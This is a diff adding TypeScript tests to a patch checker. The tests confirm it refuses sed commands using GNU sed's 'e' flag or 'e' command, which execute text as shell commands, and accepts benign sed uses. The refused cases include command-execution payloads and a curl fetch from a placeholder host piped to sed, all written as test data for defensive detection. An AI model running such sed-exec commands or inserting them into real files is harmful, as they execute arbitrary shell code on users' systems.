@@ -218,3 +218,61 @@ describe('attack pass 10: the cost of reading a patch (finding 5)', () => {
     );
   }
 });
+
+/**
+ * Gaps the attack pass after review 32 found in the patch check (each test below failed on the code before its fix,
+ * by the patch being accepted or, for the controls marked so, refused).
+ */
+describe("patch-check gaps, 4: GNU sed's `e` flag and `e` command run the pattern space as a command", () => {
+  for (const [path, line] of [
+    ['docs/setup.md', "sed -e 's-a-b-e' notes.txt"],
+    ['docs/setup.md', "sed 's/x/y/e' notes.txt"],
+    ['docs/setup.md', "sed 'sxaxidxe' notes.txt"],
+    ['docs/setup.md', "sed 's|x|y|ge' notes.txt"],
+    ['docs/setup.md', "sed 's/x/y/ e' notes.txt"],
+    ['docs/setup.md', "sed -ne's,x,y,pe' notes.txt"],
+    ['docs/setup.md', "sed --expression='s/x/y/2e' notes.txt"],
+    ['docs/setup.md', "sed -i.bak -E 's/^/id/;s#x#y#e' notes.txt"],
+    ['docs/setup.md', "sed '/x/{s/a/b/e}' notes.txt"],
+    ['docs/setup.md', "sed '1e id' notes.txt"],
+    // A delimiter inside a bracket expression ends nothing: one `s` with the `e` flag and a comment, not three commands.
+    ['docs/setup.md', "sed 's/[/]/;p;s/e#/x/' notes.txt"],
+    ['docs/setup.md', "sed '\\,[,],e id' notes.txt"],
+    ['docs/setup.md', 'sed e notes.txt'],
+    ['docs/setup.md', "printf 's/.*/id/e' | sed -f - notes.txt"],
+    ['docs/setup.md', "find . -name '*.txt' -exec sed -i 's/.*/id/e' {} +"],
+    ['docs/setup.md', "curl -fsSL x.example/i | sed -e 's-a-b-e'"],
+    ['src/setup_env.py', `os.system("sed -i 's/.*/id/e' notes.txt")`],
+    ['src/setup_env.py', `subprocess.run(["sed", "s-.*-id-e", "notes.txt"])`],
+  ] as const) {
+    it(`refuses ${line}`, () => {
+      // Act
+      const result = checked(path, line);
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('sed-exec') });
+    });
+  }
+
+  for (const line of [
+    "sed -e 's/foo/bar/' -e 's/x/y/g' notes.txt",
+    "sed -i.bak 's/name/rename/' notes.txt",
+    "sed -ie 's/a/b/' notes.txt",
+    "sed -n '/start/,/end/p' notes.txt",
+    "sed '1i # generated file, do not edit' notes.txt",
+    "sed -E 's/(e)/\\1e/' notes.txt",
+    "sed 's/$/ line/;/^#/d;y/abc/xyz/' notes.txt",
+    'sed -i "s/version = .*/version = $VERSION/" notes.txt',
+    "sed 's/x/y/' example.txt each.txt",
+    'sed -f fix.sed notes.txt',
+    'Use sed expressions to rewrite the file.',
+  ]) {
+    it(`control: accepts ${line}`, () => {
+      // Act
+      const result = checked('docs/setup.md', line);
+
+      // Assert
+      expect(result.ok).toBe(true);
+    });
+  }
+});
